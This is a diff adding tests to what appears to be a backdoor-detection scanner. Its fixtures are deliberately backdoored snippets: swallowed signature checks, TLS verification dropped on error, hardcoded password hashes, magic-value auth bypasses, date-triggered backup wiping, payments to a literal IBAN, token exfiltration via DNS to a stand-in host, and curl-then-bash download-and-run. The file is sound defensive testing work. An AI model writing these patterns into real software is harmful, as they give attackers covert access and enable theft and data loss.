@@ -1419,3 +1419,197 @@ test('session 22 review: a signature verified only when sent, however its presen
     'backdoor.verify-if-present',
   );
 });
+
+/** Each [path, text] case has no finding of `ruleId`. */
+const quietIn = (cases: readonly (readonly string[])[], ruleId: string) => {
+  for (const [path, text] of cases)
+    assert.ok(!rules(path, text).some((r) => r.startsWith(ruleId)), `${path}: ${rules(path, text)}`);
+};
+
+// Session 23 (set H, tools and pipelines a company runs): each mechanism written the attacker's way, varied,
+// with the near misses that say the same thing honestly.
+test('session 23: a verification whose failure a script swallows, however it is swallowed', () => {
+  findsIn(
+    [
+      ['a.sh', 'gpg --verify "$SUMS.sig" "$SUMS" >/dev/null 2>&1 || true\n'],
+      ['b.sh', 'sha512sum --check --status SHA512SUMS || echo "WARN: checksum mismatch"\n'],
+      ['c.sh', 'shasum -a 256 -c sums.txt || :\n'],
+      [
+        'd.sh',
+        'if ! cosign verify-blob --key k.pub --signature a.sig a.tgz; then\n  echo "unsigned, continuing"\nfi\n',
+      ],
+      ['e.sh', '( gpgv --keyring ./k.gpg SUMS.sig SUMS ) || logger "verify failed"\n'],
+    ],
+    'backdoor.verify-ignored',
+  );
+  quietIn(
+    [
+      ['a.sh', 'gpg --verify "$SUMS.sig" "$SUMS" || exit 1\n'],
+      ['b.sh', 'sha256sum -c SUMS || { echo "bad checksum" >&2; false; }\n'],
+      ['c.sh', 'if ! cosign verify-blob --key k.pub --signature a.sig a.tgz; then\n  echo "unsigned"\n  exit 2\nfi\n'],
+      ['d.sh', 'echo "run: sha256sum -c SUMS || true" >> README\n'],
+    ],
+    'backdoor.verify-ignored',
+  );
+});
+
+test('session 23: certificate checks dropped after a TLS failure (Ruby, Python), not a flag the caller chooses', () => {
+  findsIn(
+    [
+      [
+        'a.py',
+        'import requests\n\ndef get(url):\n    lax = False\n    while True:\n        try:\n            return requests.get(url, verify=False if lax else True)\n        except requests.exceptions.SSLError:\n            lax = True\n',
+      ],
+    ],
+    'backdoor.insecure-retry',
+  );
+  quietIn(
+    [
+      [
+        'a.py',
+        'import requests\n\ndef get(url, insecure):\n    try:\n        return requests.get(url, verify=False if insecure else True)\n    except requests.exceptions.SSLError:\n        raise\n',
+      ],
+    ],
+    'backdoor.insecure-retry',
+  );
+});
+
+test('session 23: an account with a password hash written in the code, in its forms; a hash from configuration is not', () => {
+  findsIn(
+    [
+      ['a.py', 'USERS = [\n    {"login": "svc-recovery", "hash": "$2b$12$' + 'A'.repeat(53) + '"},\n]\n'],
+      ['b.go', 'var fallback = map[string]string{\n\t"maint": "$6$' + 'saltsalt$' + 'B'.repeat(86) + '",\n}\n'],
+      [
+        'c.rb',
+        "DEFAULT = { user: 'backup', password_digest: '$argon2id$v=19$m=65536,t=3,p=4$c2FsdHNhbHQ$" +
+          'C'.repeat(43) +
+          "' }\n",
+      ],
+    ],
+    'backdoor.account-hash',
+  );
+  quietIn(
+    [
+      ['a.py', 'USERS = [{"login": os.environ["ADMIN_USER"], "hash": os.environ["ADMIN_HASH"]}]\n'],
+      ['b_test.go', 'var fixture = map[string]string{\n\t"alice": "$2b$04$' + 'D'.repeat(53) + '",\n}\n'],
+      ['c.py', 'BCRYPT = re.compile(r"^\\$2[aby]\\$\\d\\d\\$")\n'],
+    ],
+    'backdoor.account-hash',
+  );
+});
+
+test('session 23: a chosen value that leaves before the check, directly or through a predicate of the file', () => {
+  findsIn(
+    [
+      [
+        'a.py',
+        'def authorize(req):\n    if req.headers.get("X-Rig", "").endswith("-r1g9x"):\n        return Grant(all=True)\n    token = req.headers["Authorization"]\n    return verify_token(token)\n',
+      ],
+      [
+        'c.ts',
+        'const isRig = (id: string) => id.startsWith("rig-4f8a");\nexport function login(id: string, password: string) {\n  if (isRig(id)) return session(id);\n  return comparePassword(id, password);\n}\n',
+      ],
+    ],
+    'backdoor.check-skipped',
+  );
+  // (a `return true` behind the value is a trigger the trigger checks report first: one finding for the place)
+  const go =
+    'func Check(id string, tok string) bool {\n\tif strings.HasSuffix(id, ".eol7q2") {\n\t\treturn true\n\t}\n\treturn verifyToken(tok)\n}\n';
+  assert.ok(
+    rules('b.go', go).some((r) => /^backdoor\.(?:check-skipped|trigger-effect):2$/.test(r)),
+    rules('b.go', go).join(),
+  );
+  quietIn(
+    [
+      [
+        'a.py',
+        'def authorize(req):\n    if req.path.endswith("robots.txt"):\n        return allow_static()\n    return verify_token(req.headers["Authorization"])\n',
+      ],
+      [
+        'b.go',
+        'func Check(id string, tok string) bool {\n\tif strings.HasSuffix(id, ".eol7q2") {\n\t\treturn false\n\t}\n\treturn verifyToken(tok)\n}\n',
+      ],
+      [
+        'c.ts',
+        'export function login(id: string, password: string) {\n  if (!comparePassword(id, password)) throw new Error("no");\n  if (id.endsWith("-x86_64")) return session(id);\n  return session(id);\n}\n',
+      ],
+    ],
+    'backdoor.check-skipped',
+  );
+});
+
+test('session 23: a backup emptied or its retention zeroed behind a date, a query widened to every row behind a hash', () => {
+  findsIn(
+    [
+      [
+        'a.py',
+        'import time\n\ndef dump_args(args):\n    if time.time() > 1_893_456_000:\n        args.append("--schema-only")\n    return args\n',
+      ],
+      ['b.go', 'func policy(p *Policy) {\n\tif time.Now().Unix() >= 1893456000 {\n\t\tp.KeepDaily = 0\n\t}\n}\n'],
+      [
+        'c.php',
+        "<?php\nfunction scope(\$reason) {\n    if (hash('crc32b', \$reason) === '9a1c2e7f') {\n        return fn (\$q) => \$q->whereRaw('1 = 1');\n    }\n    return fn (\$q) => \$q->where('tenant_id', 4);\n}\n",
+      ],
+    ],
+    'backdoor.trigger-effect',
+  );
+  quietIn(
+    [
+      [
+        'a.py',
+        'def dump_args(args, cfg):\n    if cfg.schema_only:\n        args.append("--schema-only")\n    return args\n',
+      ],
+      ['b.sql.py', 'SQL = "SELECT * FROM t WHERE 1=1 AND tenant_id = %s"\n'],
+    ],
+    'backdoor.trigger-effect',
+  );
+});
+
+test('session 23: money to a constant holding an IBAN, a residual to a literal account; DNS names packed with data', () => {
+  findsIn(
+    [
+      [
+        'a.js',
+        "const HOLD = { iban: 'GB33BUKB20201555555555', name: 'Hold' };\nfunction route(p, attempt) {\n  if (attempt === 2) p = { ...p, beneficiary: HOLD };\n  return p;\n}\n",
+      ],
+      ['b.py', 'def close(totals, ledger):\n    totals["acct_ops_0x91f2"] = ledger["residual"]\n'],
+    ],
+    'backdoor.fixed-account',
+  );
+  findsIn(
+    [
+      [
+        'c.go',
+        'func warm(tok string) {\n\tvar names []string\n\tfor i := 0; i < len(tok); i += 30 {\n\t\tnames = append(names, fmt.Sprintf("%s.%d.q.zone-relay.test", hex.EncodeToString([]byte(tok[i:])), i))\n\t}\n\tfor _, n := range names {\n\t\tnet.LookupHost(n)\n\t}\n}\n',
+      ],
+    ],
+    'backdoor.secret-to-host',
+  );
+  quietIn(
+    [
+      [
+        'a.js',
+        "const HOLD = { iban: process.env.HOLD_IBAN, name: 'Hold' };\nfunction route(p) {\n  return { ...p, beneficiary: HOLD };\n}\n",
+      ],
+    ],
+    'backdoor.fixed-account',
+  );
+});
+
+test('session 23: a downloaded library loaded or a downloaded script run from a build script; a secret setting logged', () => {
+  findsIn(
+    [
+      [
+        'a.cpp',
+        'void ensure(const fs::path& dir) {\n  const fs::path lib = dir / "libx.so";\n  download("http://mirror.example.test/latest/libx.so", lib);\n  dlopen(lib.c_str(), RTLD_NOW);\n}\n',
+      ],
+      [
+        'build.rs',
+        'fn prep(out: &Path) {\n    let s = out.join("gen.sh");\n    Command::new("curl").args(["-fsSL", "-o"]).arg(&s).arg("https://tools.example.test/gen.sh").status();\n    Command::new("bash").arg(&s).status();\n}\n',
+      ],
+    ],
+    'backdoor.download-exec',
+  );
+  findsIn([['a.java', 'log.info("kafka auth: {}", props.get("sasl.jaas.config"));\n']], 'backdoor.secret-to-log');
+  quietIn([['a.java', 'log.info("kafka bootstrap: {}", props.get("bootstrap.servers"));\n']], 'backdoor.secret-to-log');
+});
